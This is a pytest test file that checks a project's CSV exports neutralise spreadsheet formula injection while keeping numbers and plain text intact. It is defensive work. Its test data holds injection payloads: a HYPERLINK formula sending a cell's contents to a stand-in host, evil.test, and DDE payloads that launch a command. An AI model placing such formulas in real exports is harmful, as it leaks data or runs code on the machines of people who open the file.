"""No file of ours is run by the spreadsheet that opens it."""

from __future__ import annotations

import csv
import io
import math
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pages.components.download import as_csv
from smartreco.cli import output
from smartreco.config import PROJECT
from smartreco.workspace.cells import SIGNS, alive, csv_of, inert, inert_frame

FORMULAS = [
    '=HYPERLINK("http://evil.test?x="&A1,"look")', "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0", "@SUM(1+9)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "－1+1", "-", "=", "-1-1",
]  # fmt: skip
PLAIN = ["", "Rice", "a=b", "3-pack", "-3.5", "+12", "-1,200.50", "-1e-7", "'quoted'", "007"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert inert(text) == "'" + text.replace("\r", "\n")
    assert alive(inert(text)) == text.replace("\r", "\n")


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays(text: str) -> None:
    assert inert(text) == text
    assert alive(text) == text


@given(st.text())
def test_a_cell_runs_nothing_or_is_a_number_and_comes_back_as_it_was(text: str) -> None:
    cell = inert(text)
    assert cell[:1] not in SIGNS or not cell or isinstance(float(cell.replace(",", "")), float)
    if not text.startswith("'"):
        assert alive(cell) == text.replace("\r\n", "\n").replace("\r", "\n")


def test_no_sign_within_a_text_begins_a_row_of_its_own(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    output.write([pd.DataFrame({"name": ["Rice\r=1+1", "Tea\n=1+1", "Oil\r\n=1+1"]})], out, str)
    assert not [cell for cell in cells_of(out.read_bytes()) if runs(cell)]
    raw = out.read_bytes()
    assert b"\r" not in raw


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": FORMULAS,
            "kind": pd.Categorical(["=1+1"] * len(FORMULAS)),
            "value": [-1.5] * len(FORMULAS),
            "mixed": np.array([-2, None, "=x"] + [-3] * (len(FORMULAS) - 3), dtype=object),
            "day": pd.to_datetime(["2026-01-01"] * len(FORMULAS)),
            "=head": [True] * len(FORMULAS),
        },
        index=range(10, 10 + len(FORMULAS)),
    )


def test_a_frame_keeps_numbers_days_and_itself() -> None:
    given_frame = frame()
    safe = inert_frame(given_frame)
    assert safe["name"].tolist() == ["'" + one.replace("\r", "\n") for one in FORMULAS]
    assert safe["kind"].tolist() == ["'=1+1"] * len(FORMULAS)
    assert safe["value"].tolist() == given_frame["value"].tolist()
    assert safe["mixed"].tolist()[0] == -2
    assert safe["day"].dtype == given_frame["day"].dtype
    assert list(safe.columns)[-1] == "'=head"
    pd.testing.assert_frame_equal(given_frame, frame())


def cells_of(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def runs(cell: str) -> bool:
    if not cell or cell[0] not in SIGNS:
        return False
    try:
        return not math.isfinite(float(cell))
    except ValueError:
        return True


@pytest.mark.parametrize("make", [as_csv, csv_of])
def test_a_page_hands_out_no_formula(make: object) -> None:
    assert callable(make)
    assert not [cell for cell in cells_of(make(frame())) if runs(cell)]


def test_the_command_line_writes_no_formula(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert output.write([frame(), frame()], out, str) == 2 * len(FORMULAS)
    assert not [cell for cell in cells_of(out.read_bytes()) if runs(cell)]


def test_parquet_and_json_keep_what_was_typed(tmp_path: Path) -> None:
    plain = frame()[["name", "value"]]
    output.write([plain], tmp_path / "out.parquet", str)
    pd.testing.assert_frame_equal(
        pd.read_parquet(tmp_path / "out.parquet"), plain.reset_index(drop=True), check_dtype=False
    )


def writers_of_csv() -> list[Path]:
    """Files of ours that write CSV; constants of our own (templates, festivals) need no care."""
    files = [*(PROJECT / "smartreco").rglob("*.py"), *(PROJECT / "pages").rglob("*.py")]
    harmless = {"cells.py", "templates.py", "draw.py"}
    return [
        path
        for path in files
        if re.search(r"\.to_csv\(|csv\.(Dict)?[wW]riter\(", path.read_text(encoding="utf-8"))
        and path.name not in harmless
    ]


@pytest.mark.parametrize("path", writers_of_csv(), ids=lambda path: path.name)
def test_whoever_writes_csv_makes_cells_inert(path: Path) -> None:
    assert "smartreco.workspace.cells import" in path.read_text(encoding="utf-8")


def test_the_writers_are_found() -> None:
    names = {path.name for path in writers_of_csv()}
    assert {"output.py", "sheets.py", "counting.py", "counts.py"} <= names
